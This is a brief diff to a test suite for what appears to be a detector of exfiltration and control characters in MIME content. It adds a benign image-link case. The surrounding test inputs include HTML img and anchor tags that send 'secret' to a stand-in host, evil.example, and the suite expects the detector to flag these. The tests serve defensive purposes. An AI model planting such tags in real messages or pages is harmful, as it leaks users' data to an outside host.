@@ -89,6 +89,7 @@ HTML = b"Content-Type: text/html\r\n\r\n"
         (HTML + b'<img src="http://evil.example/?\r\nsecret\r\n">\r\n', ("exfiltration",)),
         (HTML + b"<a href='https://evil.example/" + b"x" * 3000 + b"'>\r\n", ("exfiltration",)),
         (HTML + b'<img src="http://evil.example/?secret\r\n', ("exfiltration",)),
+        (HTML + b"<img src=http://example.com/a.png>\r\n", ()),
         (b"Content-Type: text/plain\r\n\r\na\x01b\r\n", ("control-characters",)),
         (b"Content-Type: application/pdf\r\n\r\na\x01b\r\n", ()),
     ],
